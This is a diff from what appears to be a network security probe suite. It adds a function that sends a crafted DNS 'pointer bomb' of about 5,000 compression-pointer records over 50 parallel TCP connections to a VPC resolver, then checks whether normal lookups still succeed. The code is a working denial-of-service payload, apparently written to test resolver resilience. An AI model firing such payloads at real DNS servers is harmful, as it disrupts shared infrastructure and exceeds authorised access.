@@ -74,6 +74,21 @@ def garbage_to_the_resolver() -> str:
 
 
 @attempt
+def bomb_of_names() -> list[str]:
+    """Ask for a name with 63 KB of pointers to pointers behind it, 50 times at once, by TCP; then ask plainly."""
+    question = b"".join(bytes([len(part)]) + part.encode() for part in ["s3", "us-east-1", "amazonaws", "com"])
+    records = b"".join(struct.pack("!HHHIH", 0xC000 | min(0x3FFF, 12 + 12 * n), 1, 1, 0, 0) for n in range(5_000))
+    bomb = struct.pack("!6H", 7, 0x0100, 1, 0xFFFF, 0xFFFF, 0xFFFF) + question + b"\0\0\1\0\1" + records
+    connections = [socket.create_connection(("10.0.0.2", 53), SECONDS) for _ in range(50)]
+    for connection in connections:
+        connection.sendall(len(bomb).to_bytes(2, "big") + bomb)
+    answers = [connection.recv(4096) for connection in connections]
+    for connection in connections:
+        connection.close()
+    return [*sorted({f"{answer[5] & 15}" for answer in answers}), dns("s3.us-east-1.amazonaws.com")]
+
+
+@attempt
 def names_of_another_vpc() -> list[str]:
     return [dns(name, kind, server) for name, kind in FACTS["names"] for server in ("169.254.169.253", "10.0.0.2")]
 
